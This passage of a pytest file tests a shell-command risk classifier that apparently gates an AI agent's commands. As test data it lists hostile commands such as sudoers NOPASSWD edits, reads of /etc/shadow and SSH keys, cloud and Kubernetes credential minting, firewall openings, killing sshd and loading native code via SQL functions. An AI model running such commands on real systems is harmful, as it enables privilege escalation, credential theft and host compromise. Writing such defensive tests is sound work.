    ("npm config get registry", RO),
    ("pip config get global.timeout", RO),
    ("git config --get remote.origin.name", RO),
    ("git config user.name", RO),
    ("vercel env ls", NET),
    ("echo $PWD", RO),
    ("cd $OLDPWD", RO),
    ("cat .env.example", RO),
    ("cat /etc/letsencrypt/live/x/fullchain.pem", RO),
    ("cat /etc/kubernetes/manifests/etcd.yaml", RO),
    ("cat /etc/passwd", RO),
    ("cat /etc/sudo.conf", RO),
    ("ls /etc/sudoers.d", RO),
    ("sudo -l", RO),
    ("echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", DES),
    ("echo x > /etc/sudoers.d/x", DES),
    ("rm /etc/sudoers.d/x", DES),
]


@pytest.mark.parametrize("command", NEW_SECRET_READS)
def test_new_secret_readers_and_credential_files_are_network(command: str) -> None:
    for contained in (False, True):
        verdict = classify(command, contained=contained, workspace=WORKSPACE)
        assert verdict.risk >= NET, (command, contained)
        found = [r for r in verdict.reasons if r.rule == "secret-read"]
        assert found and all("goes to the model" in r.detail and not r.downgraded for r in found), verdict.reasons


@pytest.mark.parametrize(("command", "host"), NEW_SECRET_NEIGHBOURS)
def test_neighbours_of_the_new_secret_readers_keep_their_grade(command: str, host: RiskLevel) -> None:
    verdict = classify(command, contained=False, workspace=WORKSPACE)
    assert verdict.risk == host, verdict.reasons
    assert not any(r.rule == "secret-read" for r in verdict.reasons)


# Output options, formatters' operands and extraction roots are write targets: a system path there is destructive
# on the host (the write rule of grader.py), a workspace or temp path stays a workspace write.
OUTPUT_OPTION_WRITES = [
    "git apply --directory=/etc x.patch",
    "git apply --direc=/etc x.patch",
    "git apply --unsafe-paths --directory=/etc x.patch",
    "git am --directory=/usr/lib x.mbox",
    "git init --separate-git-dir=/etc/X .",
    "git init --separate-git-dir /etc/X .",
    "git clone --separate-git-dir=/etc/x https://example.com/r",
    "pytest --debug=/etc/victim",
    "pytest --cache-clear -o cache_dir=/usr/local/X",
    "pytest -o cache_dir=/usr/local/X",
    "pytest --override-ini=cache_dir=/etc/x",
    "pytest --report-log=/etc/x",
    "pytest --resultlog=/etc/x",
    "pytest --cov-report=html:/etc/x",
    "pytest --cov-report html:/etc/x",
    # pytest --rootdir=/etc also imports /etc/conftest.py: project-outside-workspace, never downgraded
    # (tests/risk/test_risk_compares_archivers_and_run_options.py)
    "npm pack --pack-destination /etc/X",
    "npm pack --pack-destination=/usr/lib",
    "cargo build --target-dir /etc/X",
    "cargo test --target-dir /usr",
    "cargo doc --target-dir=/usr",
    "cargo install ripgrep --target-dir /usr/lib",
    "cargo build --artifact-dir /usr/bin",
    "cargo build -Z unstable-options --out-dir /usr/bin",
    "go test -coverprofile=/etc/passwd",
    "go test --coverprofile /etc/passwd",
    "go test -cpuprofile /etc/x",
    "go test -o=/usr/bin/x",
    "go mod vendor -o /usr/lib",
    "python3 -P -m compileall -b /usr/lib/python3",
    "python3 -P -m py_compile /usr/lib/x.py",
    "black /etc",
    "black -l 100 /etc/x.py",
    "ruff format /etc",
    "ruff check --fix /etc",
    "ruff check --cache-dir /etc",
    "mypy --cache-dir=/etc/x",
    "isort /etc",
    "prettier --write /etc",
    "eslint --fix /etc",
    "gofmt -w /etc",
    "rustfmt /etc/x.rs",
    "patch -d /etc -p1 < x.patch",
    "patch -d / -p0 < x.patch",
]
OUTPUT_OPTION_NEIGHBOURS = [
    ("git apply - <<'EOF'\n--- a/src/x.py\n+++ b/src/x.py\n@@ -1 +1 @@\n-a\n+b\nEOF", WW),
    ("git apply --check x.patch", RO),  # only reports whether the patch applies
    ("git init --separate-git-dir=/tmp/g .", WW),
    ("pytest", WW),
    ("pytest --basetemp=/tmp/x", WW),
    ("pytest -o cache_dir=.cache", WW),
    ("pytest --cov-report=html:htmlcov", WW),
    ("pytest --debug", WW),
    ("npm pack", WW),
    ("npm pack --pack-destination dist", WW),
    ("cargo build --target-dir target", WW),
    ("cargo build --target-dir /tmp/t", WW),
    ("go test -coverprofile=cover.out ./...", WW),
    ("go build -o bin/app .", WW),
    ("go mod vendor", WW),
    ("python3 -P -m compileall .", WW),
    ("black .", WW),
    ("black --check /etc", RO),  # check-only: it changes no file,
    ("black --config /etc/black.toml .", WW),
    ("ruff check /etc", WW),
    ("ruff format --check /etc", WW),
    ("isort --check-only /etc", RO),  # check-only: it changes no file,
    ("prettier --check /etc", WW),
    ("eslint /etc", WW),
    ("gofmt -l /etc", RO),  # check-only: it changes no file,
    ("rustfmt --check /etc/x.rs", RO),  # check-only: it changes no file,
    ("tar -xf x.tar -C build src/main.c", WW),
    ("patch -p1 -d sub <<'EOF'\n--- a/x.c\n+++ b/x.c\n@@ -1 +1 @@\n-a\n+b\nEOF", WW),
]


@pytest.mark.parametrize("command", OUTPUT_OPTION_WRITES)
def test_output_options_and_rewritten_operands_in_system_paths_are_destructive_on_the_host(command: str) -> None:
    assert classify(command, contained=False, workspace=WORKSPACE).risk == DES
    assert classify(command, contained=True, workspace=WORKSPACE).risk < DES


@pytest.mark.parametrize(("command", "host"), OUTPUT_OPTION_NEIGHBOURS)
def test_output_options_in_the_workspace_or_temp_keep_their_grade(command: str, host: RiskLevel) -> None:
    assert classify(command, contained=False, workspace=WORKSPACE).risk == host


# Network changes that cut the machine off and persistent settings that run code later.
CUTS_AND_PERSISTENT = [
    ("ip route flush all", DES, WW),
    ("ip r f table main", DES, WW),
    ("ip link set eth0 down", DES, WW),
    ("ip addr flush dev eth0", DES, WW),
    ("ip -4 addr flush dev eth0", DES, WW),
    ("ip link delete eth0", DES, WW),
    ("ip route del default", DES, WW),
    ("go env -w GOFLAGS=-toolexec=/tmp/x", DES, DES),
    ("go env -w CC=/tmp/cc", DES, DES),
    ("npm set script-shell=/tmp/x", DES, DES),
    ("npm set node-options=--require=/tmp/x.js", DES, DES),
]
CUTS_AND_PERSISTENT_NEIGHBOURS = [
    ("ip link set eth0 up", SYS, WW),
    ("ip route add 10.0.0.0/8 via 10.0.0.1", SYS, WW),
    ("ip addr show", RO, RO),
    ("ip -br a", RO, RO),
    ("go env -w GOPROXY=direct", SYS, WW),
    ("go env GOPATH", RO, RO),
    ("npm set init-author-name=me", SYS, WW),
]


@pytest.mark.parametrize(("command", "host", "contained"), CUTS_AND_PERSISTENT + CUTS_AND_PERSISTENT_NEIGHBOURS)
def test_network_cut_offs_and_persistent_program_settings(command: str, host: RiskLevel, contained: RiskLevel) -> None:
    assert classify(command, contained=False, workspace=WORKSPACE).risk == host
    assert classify(command, contained=True, workspace=WORKSPACE).risk == contained


# Environment dumps and searches that the first lists missed.
MORE_DUMPS_AND_SEARCHES = [
    "env -u X",
    "env --unset=X",
    "env -u X -C /tmp",
    "systemctl show-environment",
    "git -C ~ diff --no-index /dev/null .ssh/id_rsa",
    "git -C /etc diff --no-index /dev/null shadow",
    "grep -r token ~",
    "grep -rn password /etc",
    "rg token ~/.config",
]
MORE_DUMPS_AND_SEARCHES_NEIGHBOURS = [
    ("env -u X ls", RO),
    ("env -C /tmp ls", RO),
    ("systemctl status nginx", RO),
    ("git -C sub diff --no-index a b", RO),
    ("grep -r token src", RO),
    ("grep -r token ~/.cargo/registry/src", RO),
    ("grep token ~/notes.txt", RO),
    ("rg foo", RO),
    ("rg -l TODO /usr/include", RO),
]


@pytest.mark.parametrize("command", MORE_DUMPS_AND_SEARCHES)
def test_environment_dumps_and_recursive_searches_of_secret_trees_are_network(command: str) -> None:
    for contained in (False, True):
        verdict = classify(command, contained=contained, workspace=WORKSPACE)
        assert verdict.risk >= NET, (command, contained)
        found = [r for r in verdict.reasons if r.rule == "secret-read"]
        assert found and not any(r.downgraded for r in found), verdict.reasons


@pytest.mark.parametrize(("command", "host"), MORE_DUMPS_AND_SEARCHES_NEIGHBOURS)
def test_neighbours_of_the_dumps_and_searches_keep_their_grade(command: str, host: RiskLevel) -> None:
    verdict = classify(command, contained=False, workspace=WORKSPACE)
    assert verdict.risk == host, verdict.reasons


# More output locations: cargo install --root, cargo vendor PATH, cargo fmt -- FILES, npm --cache, docker's -o,
# git lfs install --system.
MORE_OUTPUT_WRITES = [
    "cargo install ripgrep --root /usr",
    "cargo vendor /etc/x",
    "cargo fmt -- /etc/x.rs",
    "npm ci --cache /etc/x",
    "npm install --cache /etc/x",
    "docker build -o /etc .",
    "docker build --output type=local,dest=/etc/x .",
    "docker save -o /etc/x img",
    "git lfs install --system",
]
MORE_OUTPUT_NEIGHBOURS = [
    ("cargo install ripgrep --root /tmp/r", SYS),
    ("cargo vendor", NET),
    ("cargo fmt", WW),
    ("npm ci --cache /tmp/c", NET),
    ("docker build -o out .", SYS),
    ("docker save -o img.tar img", WW),  # the local engine is read, the archive written here
    ("git lfs install", SYS),
]


@pytest.mark.parametrize("command", MORE_OUTPUT_WRITES)
def test_more_output_locations_in_system_paths_are_destructive_on_the_host(command: str) -> None:
    assert classify(command, contained=False, workspace=WORKSPACE).risk == DES


@pytest.mark.parametrize(("command", "host"), MORE_OUTPUT_NEIGHBOURS)
def test_more_output_locations_elsewhere_keep_their_grade(command: str, host: RiskLevel) -> None:
    assert classify(command, contained=False, workspace=WORKSPACE).risk == host


# -- killing what uses the host's files or ports, opening or deleting firewall rules --------------------------------
KILLS_AND_OPENINGS = [
    ("fuser -k /", "signal-init"),
    ("fuser -ki /", "signal-init"),
    ("fuser -k /home", "signal-init"),
    ("fuser -k /usr/sbin/sshd", "signal-init"),
    ("fuser -k -n tcp 22", "signal-init"),
    ("fuser -k 22/tcp", "signal-init"),
    ("fuser -k /dev/pts/0", "signal-init"),
    ("fuser -k ..", "signal-init"),  # the workspace's parent, under /home
    ("iptables -I INPUT -j ACCEPT", "firewall-off"),
    ("iptables -I INPUT 1 -j ACCEPT", "firewall-off"),
    ("iptables -A INPUT -s 0.0.0.0/0 -j ACCEPT", "firewall-off"),
    ("iptables -R INPUT 1 -j ACCEPT", "firewall-off"),
    ("iptables -I FORWARD -j ACCEPT", "firewall-off"),
    ("iptables -D INPUT 1", "firewall-off"),
    ("nft insert rule inet filter input accept", "firewall-off"),
    ("nft add rule inet filter input counter accept", "firewall-off"),
    ("nft delete rule inet filter input handle 5", "firewall-off"),
    ("nft -f /tmp/rules.nft", "firewall-off"),
    ("nft -f -", "firewall-off"),
    ("nft --file=/tmp/rules.nft", "firewall-off"),
    ("ufw allow from any", "firewall-off"),
    ("ufw delete 1", "firewall-off"),
]
KILLS_AND_OPENINGS_NEIGHBOURS = [
    ("fuser -k 8080/tcp", SYS),
    ("fuser -k -n tcp 8080", SYS),
    ("fuser -k ./app.log", SYS),
    ("fuser -k /tmp/x.sock", SYS),
    ("fuser -v /", RO),
    ("iptables -A INPUT -p tcp --dport 8080 -j ACCEPT", SYS),
    ("iptables -A INPUT -i lo -j ACCEPT", SYS),
    ("iptables -A INPUT -s 10.0.0.0/8 -j ACCEPT", SYS),
    ("iptables -A INPUT -m conntrack --ctstate ESTABLISHED,RELATED -j ACCEPT", SYS),
    ("iptables -A OUTPUT -j ACCEPT", SYS),
    ("iptables -t nat -D PREROUTING 1", SYS),
    ("nft add rule inet filter input tcp dport 8080 accept", SYS),
    ("nft -c -f rules.nft", RO),
    ("nft -f rules.nft", SYS),  # a file of the workspace
    ("ufw allow from 10.0.0.5", SYS),
    ("ufw allow from any to any port 22", SYS),
]


@pytest.mark.parametrize(("command", "rule"), KILLS_AND_OPENINGS)
def test_killing_the_hosts_processes_and_opening_the_firewall_are_destructive(command: str, rule: str) -> None:
    result = classify(command, contained=False, workspace=WORKSPACE)
    assert result.risk == DES
    assert rule in {r.rule for r in result.reasons}


@pytest.mark.parametrize(("command", "host"), KILLS_AND_OPENINGS_NEIGHBOURS)
def test_neighbours_of_the_kills_and_firewall_openings_keep_their_grade(command: str, host: RiskLevel) -> None:
    assert classify(command, contained=False, workspace=WORKSPACE).risk == host


# -- commands that mint or print a credential ------------------------------------------------------------------------
MINTED_AND_HELD_CREDENTIALS = [
    "kubectl create token admin --duration=87600h",
    "kubectl create token default",
    "npm token create",
    "gcloud iam service-accounts keys create k.json --iam-account=x",
    "gcloud iam service-accounts keys create - --iam-account=x",
    "gcloud config config-helper --format=json",
    "aws sso get-role-credentials --role-name x --account-id 1 --access-token t",
    "aws cognito-identity get-credentials-for-identity --identity-id x",
    "aws iam create-service-specific-credential --user-name x --service-name codecommit.amazonaws.com",
    "aws kms generate-data-key --key-id x",
    "aws lambda get-function-configuration --function-name x",
    "az cosmosdb keys list -n x -g g",
    "az redis list-keys -n x -g g",
    "az functionapp keys list -n x -g g",
    "az servicebus namespace authorization-rule keys list -g g --namespace-name n -n r",
    "az webapp deployment list-publishing-profiles -n x -g g",
    "az aks get-credentials -n x -g g --admin --file -",
    "terraform show -json",
    "tofu show -json plan.out",
    "docker compose config --environment",
    "docker compose config",
    "docker-compose config",
    "etcdctl get --prefix /registry/secrets",
    "etcdctl get / --prefix",
    "etcdctl snapshot save x.db",
    "git config http.extraHeader",
    "git config HTTP.EXTRAHEADER",
    "git config http.https://github.com/.extraheader",
    "vercel env pull /dev/stdout",
]
MINTED_AND_HELD_NEIGHBOURS = [
    ("etcdctl get /app/config", NET),
    ("git config user.name", RO),
    ("etcdctl get --prefix /registry/pods", NET),
    ("kubectl create deployment x --image=y", SYS),
    ("npm token list", NET),
    ("gcloud iam service-accounts keys list --iam-account=x", NET),
    ("gcloud config list", RO),
    ("aws lambda list-functions", NET),
    ("az keyvault key list --vault-name v", NET),
    ("az webapp list", NET),
    ("az aks get-credentials -n x -g g", SYS),
    ("terraform show", NET),
    ("docker compose config --services", RO),  # renders the local compose files, asks no engine
    ("docker compose ps", RO),  # the local engine's state, as docker ps
]


@pytest.mark.parametrize("command", MINTED_AND_HELD_CREDENTIALS)
def test_commands_printing_a_new_or_held_credential_are_secret_reads(command: str) -> None:
    result = classify(command, contained=False, workspace=WORKSPACE)
    assert "secret-read" in {r.rule for r in result.reasons}
    assert result.risk >= NET


@pytest.mark.parametrize(("command", "host"), MINTED_AND_HELD_NEIGHBOURS)
def test_neighbours_of_the_credential_printers_are_no_secret_reads(command: str, host: RiskLevel) -> None:
    result = classify(command, contained=False, workspace=WORKSPACE)
    assert result.risk == host
    assert "secret-read" not in {r.rule for r in result.reasons}


# -- cp making links to files outside the workspace, as ln does ------------------------------------------------------
@pytest.mark.parametrize(
    "command",
    ["cp -s /etc/passwd p", "cp -s ~/.bashrc b", "cp -rs ~ home", "cp -l ~/.bashrc b", "cp --link /etc/sudoers s"],
)
def test_cp_linking_to_a_protected_file_is_destructive(command: str) -> None:
    result = classify(command, contained=False, workspace=WORKSPACE)
    assert result.risk == DES
    assert "protected-path-write" in {r.rule for r in result.reasons}


@pytest.mark.parametrize(
    ("command", "host"),
    [("cp /etc/hostname p", WW), ("cp -s src/a.py b.py", WW), ("cp -a build/ out/", WW), ("cp -s /tmp/x y", WW)],
)
def test_cp_copies_and_links_inside_keep_their_grade(command: str, host: RiskLevel) -> None:
    assert classify(command, contained=False, workspace=WORKSPACE).risk == host


# -- ~/.netrc logins shown by a verbose request -----------------------------------------------------------------------
@pytest.mark.parametrize(
    ("command", "secret"),
    [
        ("curl -n -v https://x", True),
        ("curl -v --netrc https://api.example.com/v1/status", True),
        ("curl --netrc-optional -v https://x", True),
        ("curl -n --trace-ascii - https://x", True),
        ("curl -n -D - https://x", True),
        ("curl -nv https://x", True),
        ("wget -d https://x", True),
        ("wget --debug -O- https://x", True),
        ("curl -v https://x", False),
        ("curl -n https://x", False),
        ("wget https://x", False),
    ],
)
def test_a_verbose_request_with_netrc_logins_is_a_secret_read(command: str, secret: bool) -> None:
    result = classify(command, contained=False, workspace=WORKSPACE)
    assert result.risk == NET
    assert ("secret-read" in {r.rule for r in result.reasons}) is secret


@pytest.mark.parametrize(
    ("command", "host"),
    [
        ("psql -c \"create function f() returns void as '/tmp/x.so' language c\"", DES),
        ("psql -c \"CREATE FUNCTION f() RETURNS void AS 'x.so' LANGUAGE C\"", DES),
        ('psql -c "create function f() returns void as $$ import os $$ language plpython3u"', DES),
        ("mysql -e \"create function f returns string soname 'x.so'\"", DES),
        ("psql -c \"create function f() returns int as 'select 1' language sql\"", SYS),
        ("psql -c 'create table t (a int)'", SYS),
    ],
)
def test_sql_functions_of_native_or_untrusted_code_are_destructive(command: str, host: RiskLevel) -> None:
    assert classify(command, contained=False, workspace=WORKSPACE).risk == host
